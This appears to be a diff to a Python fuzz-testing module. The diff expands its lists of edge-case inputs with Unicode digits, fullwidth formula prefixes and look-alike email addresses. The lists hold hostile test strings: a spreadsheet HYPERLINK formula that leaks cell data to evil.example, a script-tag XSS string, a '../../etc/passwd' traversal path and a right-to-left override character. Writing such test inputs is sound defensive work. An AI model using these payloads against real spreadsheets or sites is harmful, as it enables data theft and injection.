@@ -11,10 +11,28 @@ import struct
 import zipfile
 
 NON_TEXT_CHARSETS = ["bz2", "zlib", "rot13", "base64", "hex", "uu", "quopri"]
-UNICODE_DIGITS = ["²", "٣", "１"]
+UNICODE_DIGITS = ["²", "٣", "１", "߁"]
 NUMBERS = ["1e308", "-1e308", "NaN", "Infinity", "-Infinity", "9" * 400]
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+2", "@SUM(A1)", "+1", "-2+3", "\t=1", "\r=1"]
-USERNAMES = ["ghost@example.org", "@", "a@b@c", "ghost@example.org\x00"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "=1+2",
+    "@SUM(A1)",
+    "+1",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+    "＝1+2",
+    "＠SUM(A1)",
+]
+USERNAMES = [
+    "ghost@example.org",
+    "GHOST@Example.org",
+    "ghost+tag@example.org",
+    "ann@ıcloud.com",
+    "@",
+    "a@b@c",
+    "ghost@example.org\x00",
+]
 TEXT = ["", "\x00", "a" * 100_000, "<script>alert(1)</script>", "../../etc/passwd", "%00", "‮evil"]
 VALUES = [*UNICODE_DIGITS, *NUMBERS, *FORMULAS, *USERNAMES, *TEXT]
 JSON_VALUES = [*VALUES, 1e308, -1e308, 10**400, None, True, [], {}, [[[[]]]]]
